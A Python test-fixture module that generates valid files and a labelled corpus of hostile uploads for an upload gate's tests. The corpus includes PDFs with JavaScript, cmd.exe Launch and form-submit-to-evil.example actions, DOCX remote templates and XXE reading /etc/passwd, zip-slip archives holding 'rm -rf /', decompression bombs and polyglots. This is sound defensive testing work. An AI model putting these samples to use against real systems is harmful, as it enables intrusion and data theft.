"""Files for the upload gate's tests, all generated here: a control set of real files, and a
corpus of malicious or malformed ones, each with the reason it must be refused."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pikepdf
from openpyxl import Workbook
from PIL import Image, ImageDraw, ImageFont, PngImagePlugin
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen import canvas

FONT = Path("/usr/share/fonts/truetype/noto/NotoSans-Regular.ttf")
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

_CONTENT_TYPES_DOCX = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    b'officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_ROOT_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)
_DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>Đơn đề nghị cấp phiếu lý lịch tư pháp</w:t></w:r></w:p></w:body>"
    "</w:document>"
).encode()
_HYPERLINK_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/hyperlink" Target="https://dichvucong.gov.vn/" TargetMode="External"/>'
    b"</Relationships>"
)
_TEMPLATE_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
    b"</Relationships>"
)

_SETTINGS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    b'<w:attachedTemplate r:id="rId1"/></w:settings>'
)
_TEMPLATE_AS_HYPERLINK_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/hyperlink" Target="\\\\evil.example\\t.dotm" TargetMode="External"/>'
    b"</Relationships>"
)
_LINKED_IMAGE_DOCUMENT = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
    b'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
    b'<w:body><w:p><w:r><a:blip r:link="rId9"/></w:r></w:p></w:body></w:document>'
)
_LINKED_DOCUMENT = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    b'<w:body><w:p><w:hyperlink r:id="rId9"><w:r><w:t>dichvucong.gov.vn</w:t></w:r>'
    b"</w:hyperlink></w:p></w:body></w:document>"
)
_INTERNAL_MODE_URL_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/attachedTemplate" Target="https://evil.example/t.dotm"/>'
    b"</Relationships>"
)


def zip_of(entries: list[tuple[str, bytes]], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in entries:
            archive.writestr(name, data)
    return buffer.getvalue()


def docx(extra: list[tuple[str, bytes]] | None = None, *, document: bytes = _DOCUMENT) -> bytes:
    return zip_of(
        [
            ("[Content_Types].xml", _CONTENT_TYPES_DOCX),
            ("_rels/.rels", _ROOT_RELS),
            ("word/document.xml", document),
            ("word/_rels/document.xml.rels", _HYPERLINK_RELS),
            *(extra or []),
        ]
    )


def billion_laughs_xlsx(header: list[str] | None = None) -> bytes:
    """A real workbook whose first sheet declares nested entities (billion laughs) and uses one."""
    book = Workbook()
    book.worksheets[0].append(header or ["Mã thủ tục", "Tên thủ tục"])
    buffer = io.BytesIO()
    book.save(buffer)
    entities = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">' for level in range(1, 10)
    )
    doctype = f'<?xml version="1.0"?><!DOCTYPE worksheet [{entities}]>'.encode()
    cell = b'<row r="2"><c r="A2" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData>'
    entries = []
    with zipfile.ZipFile(buffer) as source:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                body = data[data.index(b"?>") + 2 :] if data.startswith(b"<?xml") else data
                data = doctype + body.replace(b"</sheetData>", cell)
            entries.append((info.filename, data))
    return zip_of(entries)


def reportlab_pdf(lines: list[str] | None = None, *, pages: int = 1) -> bytes:
    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer, pagesize=A4)
    for page in range(pages):
        y = 780
        for line in lines or [f"Giay to so {page + 1}"]:
            pdf.drawString(72, y, line)
            y -= 20
        pdf.showPage()
    pdf.save()
    return buffer.getvalue()


def pdf_with(change: Callable[[pikepdf.Pdf], None], *, encrypt: bool = False) -> bytes:
    """A real PDF, changed with pikepdf (an action added, a file embedded, ...)."""
    with pikepdf.open(io.BytesIO(reportlab_pdf())) as pdf:
        change(pdf)
        out = io.BytesIO()
        if encrypt:
            pdf.save(out, encryption=pikepdf.Encryption(owner="chu", user="", R=6))
        else:
            pdf.save(out)
    return out.getvalue()


def text_image(lines: list[str], *, kind: str = "PNG", width: int = 1200) -> bytes:
    """Vietnamese text rendered with the Noto font, black on white, for OCR."""
    font = ImageFont.truetype(str(FONT), 40)
    image = Image.new("L", (width, 80 + 70 * len(lines)), 255)
    draw = ImageDraw.Draw(image)
    for index, line in enumerate(lines):
        draw.text((40, 40 + 70 * index), line, font=font, fill=0)
    buffer = io.BytesIO()
    image.save(buffer, format=kind, dpi=(300, 300))
    return buffer.getvalue()


def photo_jpeg(width: int = 320, height: int = 240) -> bytes:
    image = Image.new("RGB", (width, height))
    for x in range(width):
        for y in range(0, height, 4):
            image.putpixel((x, y), (x % 256, y % 256, (x * y) % 256))
    buffer = io.BytesIO()
    image.save(buffer, format="JPEG", quality=85)
    return buffer.getvalue()


#: Where the photo was taken, as a phone writes it in EXIF (GPS IFD): Hoàn Kiếm, Hà Nội.
GPS = {1: "N", 2: (21.0, 1.0, 42.5), 3: "E", 4: (105.0, 50.0, 3.2)}
_EXIF_GPS_IFD = 0x8825
_EXIF_MAKE = 0x010F
_EXIF_ORIENTATION = 0x0112


def photo_jpeg_with_metadata(*, orientation: int = 1, width: int = 320, height: int = 240) -> bytes:
    """A phone photo: EXIF with the device and GPS position, XMP, and a comment."""
    exif = Image.Exif()
    exif[_EXIF_MAKE] = "Điện thoại"
    exif[_EXIF_ORIENTATION] = orientation
    exif[_EXIF_GPS_IFD] = GPS
    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><exif:GPSLatitude>21,1.7N</exif:GPSLatitude></x:xmpmeta>'
    buffer = io.BytesIO()
    with Image.open(io.BytesIO(photo_jpeg(width, height))) as image:
        image.save(buffer, format="JPEG", exif=exif, xmp=xmp, comment=b"nha rieng", quality=90)
    return buffer.getvalue()


def png_with_metadata() -> bytes:
    """A PNG scan carrying text chunks and EXIF with a GPS position."""
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "Nguyễn Văn An")
    info.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>GPS 21,1.7N</x:xmpmeta>")
    exif = Image.Exif()
    exif[_EXIF_GPS_IFD] = GPS
    buffer = io.BytesIO()
    with Image.open(io.BytesIO(text_image(["Giấy khai sinh"]))) as image:
        image.save(buffer, format="PNG", pnginfo=info, exif=exif)
    return buffer.getvalue()


def png_claiming(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims ``width`` × ``height`` pixels: a decompression bomb."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 1024))
        + chunk(b"IEND", b"")
    )


def zip_symlink() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        info = zipfile.ZipInfo("link")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    return buffer.getvalue()


def zip_encrypted_flag() -> bytes:
    data = bytearray(zip_of([("a.txt", b"secret")], compression=zipfile.ZIP_STORED))
    # Set the "encrypted" general-purpose flag in the local and the central header.
    data[6] |= 1
    central = data.rfind(b"PK\x01\x02")
    data[central + 8] |= 1
    return bytes(data)


def _js_open_action(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")
    )


def _goto_then_javascript(pdf: pikepdf.Pdf) -> None:
    """A harmless-looking GoTo on opening that chains (/Next) a JavaScript action."""
    pdf.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.GoTo,
        D=pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit]),
        Next=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")),
    )


def _launch_action(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"), NewWindow=True
    )


def _names_javascript(pdf: pikepdf.Pdf) -> None:
    action = pdf.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("this.print()"))
    )
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), action]))
    )


def _page_aa(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = pikepdf.Dictionary(
        O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("1"))
    )


def _catalog_aa_uri(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AA = pikepdf.Dictionary(
        WC=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("http://evil.example/"))
    )


def _embedded_file(pdf: pikepdf.Pdf) -> None:
    spec = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 payload", filename="run.exe")
    pdf.attachments["run.exe"] = spec


def _link_annotation_js(pdf: pikepdf.Pdf) -> None:
    annotation = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=pikepdf.Array([0, 0, 100, 100]),
        A=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("x()")),
    )
    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([annotation]))


def _rich_media(pdf: pikepdf.Pdf) -> None:
    annotation = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.RichMedia,
        Rect=pikepdf.Array([0, 0, 100, 100]),
        RichMediaContent=pikepdf.Dictionary(),
    )
    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([annotation]))


def _xfa_form(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm = pikepdf.Dictionary(
        Fields=pikepdf.Array(), XFA=pdf.make_stream(b"<xdp:xdp/>")
    )


def _link_action(action: pikepdf.Dictionary) -> Callable[[pikepdf.Pdf], None]:
    """A change putting a link annotation with ``action`` on the first page."""

    def change(pdf: pikepdf.Pdf) -> None:
        annotation = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=pikepdf.Array([0, 0, 100, 100]),
            A=action,
        )
        pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([annotation]))

    return change


_SUBMIT_FORM = pikepdf.Dictionary(
    S=pikepdf.Name.SubmitForm,
    F=pikepdf.Dictionary(FS=pikepdf.Name.URL, F=pikepdf.String("https://evil.example/collect")),
    Flags=4,
)
_GOTO_REMOTE_UNC = pikepdf.Dictionary(
    S=pikepdf.Name.GoToR,
    F=pikepdf.String("\\\\evil.example\\share\\doc.pdf"),
    D=pikepdf.Array([0, pikepdf.Name.Fit]),
)
_LAUNCH_UNC = pikepdf.Dictionary(
    S=pikepdf.Name.Launch, F=pikepdf.String("\\\\evil.example\\share\\run.exe")
)
_GOTO_EMBEDDED = pikepdf.Dictionary(
    S=pikepdf.Name.GoToE,
    D=pikepdf.Array([0, pikepdf.Name.Fit]),
    T=pikepdf.Dictionary(R=pikepdf.Name.C, N=pikepdf.String("payload.pdf")),
)
_URI_FILE = pikepdf.Dictionary(
    S=pikepdf.Name.URI, URI=pikepdf.String("file:///C:/Windows/System32/cmd.exe")
)
_URI_UNC = pikepdf.Dictionary(
    S=pikepdf.Name.URI, URI=pikepdf.String("\\\\evil.example\\share\\a.pdf")
)


def html_polyglot(pdf: bytes) -> bytes:
    """``pdf`` with an HTML page in a comment just before its end marker, far past byte 1024."""
    head, marker, tail = pdf.rpartition(b"%%EOF")
    page = b"%<html><body><script>fetch('/api/v1/dossiers/')</script></body></html>\n"
    return head + page + marker + tail


def incremental_update(
    pdf: bytes, objects: dict[int, bytes], root: int, *, free: tuple[int, ...] = ()
) -> bytes:
    """``pdf`` with an incremental update (a new revision) replacing ``objects`` by number and
    marking the objects numbered ``free`` deleted."""
    prev = int(pdf.rsplit(b"startxref", 1)[1].split()[0])
    size = int(pdf.rsplit(b"/Size", 1)[1].split()[0].rstrip(b">/"))
    out = bytearray(pdf if pdf.endswith(b"\n") else pdf + b"\n")
    offsets = {}
    for number, body in sorted(objects.items()):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for number, offset in sorted(offsets.items()):
        out += b"%d 1\n%010d 00000 n \n" % (number, offset)
    for number in free:
        out += b"%d 1\n0000000000 00001 f \n" % number
    out += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\n" % (
        max(size, *offsets) + 1,
        root,
        prev,
    )
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def _numbers(pdf: bytes) -> tuple[int, int, int]:
    """The catalog's and the page tree's object numbers in ``pdf``, and its count of objects."""
    with pikepdf.open(io.BytesIO(pdf)) as opened:
        return opened.Root.objgen[0], opened.Root.Pages.objgen[0], len(opened.objects)


def pdf_hiding_open_action(*, object_streams: bool = False) -> bytes:
    """A PDF whose first revision runs JavaScript on opening and whose update hides it.

    The update replaces the catalog by one without /OpenAction; the JavaScript's bytes stay in
    the file (in an object stream, compressed, with ``object_streams``).
    """
    mode = pikepdf.ObjectStreamMode.generate if object_streams else pikepdf.ObjectStreamMode.disable
    with pikepdf.open(io.BytesIO(reportlab_pdf())) as pdf:
        pdf.Root.OpenAction = pdf.make_indirect(
            pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.launchURL('x')"))
        )
        out = io.BytesIO()
        pdf.save(out, object_stream_mode=mode)
    first = out.getvalue()
    root, pages, _ = _numbers(first)
    with pikepdf.open(io.BytesIO(first)) as opened:
        action = opened.Root.OpenAction.objgen[0]
    return incremental_update(
        first, {root: b"<< /Type /Catalog /Pages %d 0 R >>" % pages}, root, free=(action,)
    )


def pdf_with_harmless_update() -> bytes:
    """A real PDF with an incremental update that only changes its title, as editors write."""
    first = reportlab_pdf()
    root, pages, size = _numbers(first)
    title = size + 10
    return incremental_update(
        first,
        {
            title: b"<< /Title (Don de nghi) >>",
            root: b"<< /Type /Catalog /Pages %d 0 R >>" % pages,
        },
        root,
    )


def page_of_inches(side: float, *, user_unit: float = 1) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        points = side * 72 / user_unit
        pdf.pages[0].obj.MediaBox = pikepdf.Array([0, 0, points, points])
        if user_unit != 1:
            pdf.pages[0].obj.UserUnit = user_unit

    return change


def _nothing(pdf: pikepdf.Pdf) -> None:
    del pdf  # the change is the encryption


@dataclass(frozen=True)
class Bad:
    """One file of the corpus: the name it is sent with, its bytes, and words the reason holds."""

    id: str
    name: str
    data: bytes
    reason: str
    path: str = "content"


def malicious_corpus() -> list[Bad]:
    pdf = reportlab_pdf()
    jpeg = photo_jpeg()
    png = text_image(["Giấy khai sinh"])
    good_docx = docx()
    return [
        # names, sizes, types
        Bad("empty", "trong.pdf", b"", "rỗng"),
        Bad("too-large", "lon.pdf", pdf + b"%" + b"0" * (2 * 1024 * 1024), "vượt quá giới hạn", "size"),
        Bad("exe-as-pdf", "hoa-don.pdf", b"MZ\x90\x00\x03" + b"\x00" * 200, "không phải là tệp PDF"),
        Bad("html-as-jpg", "anh.jpg", b"<html><script>alert(1)</script></html>", "không phải là tệp JPEG"),
        Bad("jpeg-as-png", "anh.png", jpeg, "không phải là tệp PNG"),
        Bad("pdf-as-jpg", "scan.jpg", pdf, "không phải là tệp JPEG"),
        Bad("exe-extension", "setup.exe", pdf, "chỉ nhận tệp", "name"),
        Bad("double-extension", "giay.pdf.exe", pdf, "chỉ nhận tệp", "name"),
        Bad("no-extension", "giaykhaisinh", pdf, "chỉ nhận tệp", "name"),
        Bad("path-traversal-name", "../../etc/passwd.pdf", pdf, "dấu phân cách thư mục", "name"),
        Bad("backslash-name", "..\\windows\\a.pdf", pdf, "dấu phân cách thư mục", "name"),
        Bad("fullwidth-separator-name", "\uff0e\uff0e\uff0fetc\uff0fa.pdf", pdf, "dấu phân cách thư mục", "name"),
        Bad("control-char-name", "giay\x00.pdf", pdf, "ký tự điều khiển", "name"),
        Bad("rtl-override-name", "hoadon\u202efdp.exe.pdf", pdf, "ký tự ẩn", "name"),
        Bad("name-too-long", "a" * 300 + ".pdf", pdf, "dài quá", "name"),
        # PDFs
        Bad("pdf-truncated", "cat.pdf", pdf[: len(pdf) // 2], "cắt cụt"),
        Bad("pdf-garbage", "rac.pdf", b"%PDF-1.7\n" + b"\x00garbage" * 50 + b"\n%%EOF\n", "hỏng"),
        Bad("pdf-header-offset", "lech.pdf", b"JUNK" + pdf, "không phải là tệp PDF"),
        Bad("pdf-openaction-js", "js.pdf", pdf_with(_js_open_action), "JavaScript"),
        Bad("pdf-goto-then-js", "tiep.pdf", pdf_with(_goto_then_javascript), "JavaScript"),
        Bad("pdf-launch", "launch.pdf", pdf_with(_launch_action), "Launch"),
        Bad("pdf-names-js", "names.pdf", pdf_with(_names_javascript), "JavaScript"),
        Bad("pdf-page-aa", "aa.pdf", pdf_with(_page_aa), "thao tác tự động"),
        Bad("pdf-catalog-aa", "aa2.pdf", pdf_with(_catalog_aa_uri), "thao tác tự động"),
        Bad("pdf-embedded-file", "dinh-kem.pdf", pdf_with(_embedded_file), "đính kèm nhúng"),
        Bad("pdf-annotation-js", "link.pdf", pdf_with(_link_annotation_js), "JavaScript"),
        Bad("pdf-rich-media", "flash.pdf", pdf_with(_rich_media), "đa phương tiện"),
        Bad("pdf-xfa", "xfa.pdf", pdf_with(_xfa_form), "XFA"),
        Bad("pdf-encrypted", "khoa.pdf", pdf_with(_nothing, encrypt=True), "mã hóa"),
        Bad("pdf-zip-polyglot", "da.pdf", pdf + zip_of([("a.txt", b"x")]), "đa định dạng"),
        Bad("pdf-submit-form", "gui.pdf", pdf_with(_link_action(_SUBMIT_FORM)), "SubmitForm"),
        Bad("pdf-goto-remote-unc", "mo.pdf", pdf_with(_link_action(_GOTO_REMOTE_UNC)), "GoToR"),
        Bad("pdf-launch-unc", "chay.pdf", pdf_with(_link_action(_LAUNCH_UNC)), "Launch"),
        Bad("pdf-goto-embedded", "nhung.pdf", pdf_with(_link_action(_GOTO_EMBEDDED)), "đính kèm nhúng"),
        Bad("pdf-uri-file", "tep.pdf", pdf_with(_link_action(_URI_FILE)), "file:"),
        Bad("pdf-uri-unc", "mang.pdf", pdf_with(_link_action(_URI_UNC)), "thư mục mạng"),
        Bad("pdf-page-50-inches", "ban-ve.pdf", pdf_with(page_of_inches(50)), "vượt quá diện tích"),
        Bad("pdf-page-user-unit", "ban-ve2.pdf", pdf_with(page_of_inches(200, user_unit=10)), "vượt quá diện tích"),
        Bad("pdf-html-after-1024", "trang.pdf", html_polyglot(pdf), "HTML"),
        Bad("pdf-update-hides-open-action", "sua.pdf", pdf_hiding_open_action(), "JavaScript"),
        Bad("pdf-update-hides-open-action-objstm", "sua2.pdf", pdf_hiding_open_action(object_streams=True), "JavaScript"),
        # images
        Bad("jpeg-truncated", "cat.jpg", jpeg[: len(jpeg) // 2], "cắt cụt"),
        Bad("png-truncated", "cat.png", png[: len(png) // 2], "cắt cụt"),
        Bad("png-bomb", "bom.png", png_claiming(100_000, 100_000), "bom giải nén"),
        Bad("jpeg-with-pdf", "da.jpg", jpeg + pdf, "đa định dạng"),
        Bad("jpeg-with-script", "da2.jpg", jpeg + b"<script>alert(1)</script>", "đa định dạng"),
        Bad("png-with-zip", "da.png", png + zip_of([("x.js", b"alert(1)")]), "đa định dạng"),
        Bad("jpeg-header-only", "dau.jpg", b"\xff\xd8\xff\xe0" + b"\x00" * 32, "cắt cụt"),
        # archives and Office files
        Bad("zip-bomb-ratio", "bom.zip", zip_of([("zeros.bin", b"\x00" * (20 * 1024 * 1024))]), "tỷ lệ nén"),
        Bad("zip-too-big", "to.zip", zip_of([(f"z{i}.bin", b"\x00" * (30 * 1024 * 1024)) for i in range(4)]), "khi giải nén"),
        Bad("zip-many-entries", "nhieu.zip", zip_of([(f"f{i}.txt", b"") for i in range(1001)]), "mục, vượt quá"),
        Bad("zip-slip", "slip.zip", zip_of([("../../evil.sh", b"rm -rf /")]), "ra ngoài thư mục"),
        Bad("zip-absolute", "abs.zip", zip_of([("/etc/cron.d/x", b"* * * * *")]), "đường dẫn tuyệt đối"),
        Bad("zip-symlink", "link.zip", zip_symlink(), "liên kết tượng trưng"),
        Bad("zip-nested", "long.zip", zip_of([("inner.zip", zip_of([("a.txt", b"a")]))]), "tệp nén khác"),
        Bad("zip-encrypted", "ma.zip", zip_encrypted_flag(), "mã hóa"),
        Bad("zip-truncated", "cat.zip", good_docx[: len(good_docx) // 2], "hỏng"),
        Bad("docx-macro", "macro.docx", docx([("word/vbaProject.bin", b"\xd0\xcf\x11\xe0macro")]), "macro"),
        Bad("docx-remote-template", "mau.docx", docx([("word/_rels/settings.xml.rels", _TEMPLATE_RELS)]), "bên ngoài"),
        Bad("docx-activex", "ax.docx", docx([("word/activeX/activeX1.bin", b"\xd0\xcf")]), "ActiveX"),
        Bad("docx-ole", "ole.docx", docx([("word/embeddings/oleObject1.bin", b"\xd0\xcf")]), "OLE"),
        Bad("docx-xxe", "xxe.docx", docx(document=b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>', extra=[("word/_rels/x.rels", b'<!DOCTYPE r [<!ENTITY a "a">]><r/>')]), "DTD"),
        Bad("docx-template-typed-as-hyperlink", "mau2.docx", docx([("word/settings.xml", _SETTINGS), ("word/_rels/settings.xml.rels", _TEMPLATE_AS_HYPERLINK_RELS)]), "bên ngoài"),
        Bad("docx-image-linked-as-hyperlink", "anh.docx", docx(document=_LINKED_IMAGE_DOCUMENT), "bên ngoài"),
        Bad("docx-template-url-without-mode", "mau3.docx", docx([("word/settings.xml", _SETTINGS), ("word/_rels/settings.xml.rels", _INTERNAL_MODE_URL_RELS)]), "bên ngoài"),
        Bad("zip-slip-fullwidth", "rong.zip", zip_of([("\uff0e\uff0e\uff0fetc\uff0fcron.d\uff0fx", b"x")]), "ra ngoài thư mục"),
        Bad("zip-slip-fullwidth-backslash", "rong2.zip", zip_of([("\uff0e\uff0e\uff3cwindows\uff3cx.bat", b"x")]), "ra ngoài thư mục"),
        Bad("zip-slip-two-dot-leader", "cham.zip", zip_of([("a/\u2025/\u2025/evil.sh", b"x")]), "ra ngoài thư mục"),
        Bad("zip-fullwidth-absolute", "tuyet.zip", zip_of([("\uff0fetc\uff0fpasswd", b"x")]), "đường dẫn tuyệt đối"),
        Bad("zip-fullwidth-drive", "o-dia.zip", zip_of([("\uff23\uff1a\uff3cx.bat", b"x")]), "đường dẫn tuyệt đối"),
        Bad("xlsx-billion-laughs", "bang.xlsx", billion_laughs_xlsx(), "DTD"),
        Bad("zip-as-docx", "thu.docx", zip_of([("a.txt", b"x")]), "không phải là tệp DOCX"),
        Bad("docx-as-xlsx", "bang.xlsx", good_docx, "không phải là tệp XLSX"),
    ]  # fmt: skip


@dataclass(frozen=True)
class Good:
    id: str
    name: str
    data: bytes
    kind: str


def control_set() -> list[Good]:
    return [
        Good("pdf-reportlab", "don-de-nghi.pdf", reportlab_pdf(["Don de nghi"]), "pdf"),
        Good("pdf-three-pages", "ho-so.PDF", reportlab_pdf(pages=3), "pdf"),
        Good("pdf-with-link", "lien-ket.pdf", pdf_with(_link_to_uri), "pdf"),
        Good("pdf-open-at-page", "mo-trang.pdf", pdf_with(_open_at_page), "pdf"),
        Good("pdf-open-goto-action", "mo-trang2.pdf", pdf_with(_open_with_goto), "pdf"),
        Good("pdf-updated", "cap-nhat.pdf", pdf_with_harmless_update(), "pdf"),
        Good("pdf-a0-drawing", "ban-ve-a0.pdf", pdf_with(page_of_inches(33.1)), "pdf"),
        Good("jpeg-photo", "anh-the.jpg", photo_jpeg(), "jpeg"),
        Good("jpeg-scan", "ban-quet.jpeg", text_image(["Căn cước"], kind="JPEG"), "jpeg"),
        Good("png-scan", "ban-quet.png", text_image(["Giấy khai sinh"]), "png"),
        Good("docx-plain", "to-khai.docx", docx(), "docx"),
        Good("docx-vietnamese-name", "Tờ khai đăng ký.docx", docx(), "docx"),
        Good("docx-with-hyperlink", "lien-ket.docx", docx(document=_LINKED_DOCUMENT), "docx"),
    ]


def _link_to_uri(pdf: pikepdf.Pdf) -> None:
    annotation = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=pikepdf.Array([0, 0, 100, 100]),
        A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://dichvucong.gov.vn/")),
    )
    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([annotation]))


def _open_with_goto(pdf: pikepdf.Pdf) -> None:
    """The opening action LaTeX (hyperref) writes: go to the first page."""
    pdf.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.GoTo, D=pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit])
    )


def _open_at_page(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit])
